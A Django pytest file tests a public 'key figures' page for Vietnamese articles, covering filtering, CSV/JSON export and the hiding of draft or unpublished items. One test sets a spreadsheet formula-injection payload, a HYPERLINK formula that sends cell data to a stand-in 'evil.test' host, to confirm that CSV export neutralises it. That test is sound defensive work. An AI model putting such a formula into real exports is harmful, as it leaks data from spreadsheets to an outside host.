import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from articles.models import Article, KeyFigure
from tests.articles.test_filters import options

pytestmark = pytest.mark.django_db


@pytest.fixture
def figures(make_article, make_project):
    article = make_article(title="Tham luận")
    road = make_project(name="Đường Hồ Sen – Cầu Rào 2")
    KeyFigure.objects.create(
        article=article, label="Tổng vốn đầu tư", value="40843", unit="tỷ đồng", period="2016–2020"
    )
    KeyFigure.objects.create(article=article, label="Diện tích quận", value="11.9", unit="km²")
    KeyFigure.objects.create(
        article=article, project=road, label="Thời gian vướng mắc", value="26", unit="năm"
    )
    draft = make_article(title="Nháp", status=Article.Status.DRAFT)
    KeyFigure.objects.create(article=draft, label="Số chưa công bố", value="1")
    return article


def test_figures_page_lists_published_figures_formatted(client, figures):
    response = client.get(reverse("figures"))
    page = response.content.decode()
    assert response.status_code == 200
    assert "40.843 tỷ đồng" in page
    assert "11,9 km²" in page
    assert "Số chưa công bố" not in page


def test_figures_filter_folds_vietnamese(client, figures):
    response = client.get(reverse("figures"), {"q": "dien tich"})
    assert [f.label for f in response.context["object_list"]] == ["Diện tích quận"]


def test_figures_export_as_csv_and_json_match_the_filtered_table(client, figures):
    params = {"project": "duong-ho-sen-cau-rao-2"}
    table = client.get(reverse("figures"), params).context["object_list"]
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(
                    client.get(reverse("figures"), {**params, "format": "csv"}).streaming_content
                ).decode("utf-8-sig")
            )
        )
    )
    assert [row["Nội dung"] for row in rows] == [f.label for f in table] == ["Thời gian vướng mắc"]
    data = json.loads(client.get(reverse("figures"), {**params, "format": "json"}).content)
    assert data["count"] == 1
    assert data["results"][0]["value"] == 26
    assert data["results"][0]["project_slug"] == "duong-ho-sen-cau-rao-2"


def test_figures_export_refuses_an_invalid_filter(client, figures):
    response = client.get(reverse("figures"), {"project": "khong-co", "format": "json"})
    assert response.status_code == 400
    assert "Bộ lọc không hợp lệ" in response.content.decode()


def test_figures_filter_offers_only_published_articles_and_public_projects(
    client, make_article, make_project
):
    published = make_article(title="Bài đã đăng")
    draft = make_article(title="Tiêu đề bản nháp", status=Article.Status.DRAFT)
    scheduled = make_article(
        title="Tiêu đề hẹn giờ", published_at=timezone.now() + timedelta(days=1)
    )
    shown = make_project(name="Đường công khai")
    hidden = make_project(name="Dự án ẩn", is_published=False)
    drafts_only = make_project(name="Dự án chỉ bài nháp nêu")
    KeyFigure.objects.create(article=published, project=shown, label="Chiều dài", value="2")
    KeyFigure.objects.create(article=published, project=hidden, label="Vốn", value="3")
    KeyFigure.objects.create(article=draft, project=drafts_only, label="Số nháp", value="1")
    KeyFigure.objects.create(article=scheduled, label="Số hẹn giờ", value="4")
    response = client.get(reverse("figures"))
    assert options(response, "article") == ["Tất cả", "Bài đã đăng"]
    assert options(response, "project") == ["Tất cả", "Đường công khai"]
    page = response.content.decode()
    for secret in ("Tiêu đề bản nháp", "Tiêu đề hẹn giờ", "Dự án ẩn", "Dự án chỉ bài nháp nêu"):
        assert secret not in page


@pytest.mark.parametrize("param", ["article", "project"])
def test_figures_filter_refuses_what_the_public_may_not_see(
    client, make_article, make_project, param
):
    draft = make_article(title="Bản nháp", status=Article.Status.DRAFT)
    hidden = make_project(name="Dự án ẩn", is_published=False)
    KeyFigure.objects.create(article=draft, project=hidden, label="Số nháp", value="1")
    value = {"article": draft.slug, "project": hidden.slug}[param]
    response = client.get(reverse("figures"), {param: value})
    assert response.status_code == 200
    assert response.context["filter"].errors
    assert "Số nháp" not in response.content.decode()


def test_figures_of_a_hidden_project_show_without_its_name_or_link(
    client, make_article, make_project
):
    article = make_article(title="Bài đã đăng")
    hidden = make_project(name="Dự án ẩn", is_published=False)
    KeyFigure.objects.create(article=article, project=hidden, label="Vốn đầu tư", value="3")
    page = client.get(reverse("figures")).content.decode()
    assert "Vốn đầu tư" in page
    assert "Dự án ẩn" not in page
    assert hidden.get_absolute_url() not in page
    data = json.loads(client.get(reverse("figures"), {"format": "json"}).content)
    assert [(row["label"], row["project"], row["project_slug"]) for row in data["results"]] == [
        ("Vốn đầu tư", "", "")
    ]
    hidden.is_published = True
    hidden.save()
    page = client.get(reverse("figures")).content.decode()
    assert f'(<a href="{hidden.get_absolute_url()}">Dự án ẩn</a>)' in page


def csv_cells(client):
    body = b"".join(client.get(reverse("figures"), {"format": "csv"}).streaming_content)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_figures_csv_neutralises_formulas_and_keeps_numbers_as_numbers(client, make_article):
    article = make_article(title="@SUM(1+1)")
    KeyFigure.objects.create(
        article=article,
        label='=HYPERLINK("https://evil.test/?d="&A2,"x")',
        value=Decimal("-5.5"),
        unit="+1",
        period="-2+3",
    )
    [row] = csv_cells(client)
    assert row["Nội dung"] == '\'=HYPERLINK("https://evil.test/?d="&A2,"x")'
    assert row["Đơn vị"] == "'+1"
    assert row["Thời kỳ"] == "'-2+3"
    assert row["Bài viết nguồn"] == "'@SUM(1+1)"
    assert row["Giá trị"] == "-5.5"
    [result] = json.loads(client.get(reverse("figures"), {"format": "json"}).content)["results"]
    assert (result["label"], result["unit"], result["period"], result["value"]) == (
        '=HYPERLINK("https://evil.test/?d="&A2,"x")',
        "+1",
        "-2+3",
        -5.5,
    )


def test_figures_exports_give_the_qualifier_its_vietnamese_label(client, make_article):
    article = make_article()
    KeyFigure.objects.create(article=article, label="Vốn", value="3", order=1)
    KeyFigure.objects.create(
        article=article, label="Hộ dân", value="900", qualifier=KeyFigure.Qualifier.ABOUT, order=2
    )
    assert [row["Mức độ"] for row in csv_cells(client)] == ["chính xác", "khoảng"]
    results = json.loads(client.get(reverse("figures"), {"format": "json"}).content)["results"]
    assert [(r["qualifier"], r["qualifier_label"]) for r in results] == [
        ("", "chính xác"),
        ("khoảng", "khoảng"),
    ]
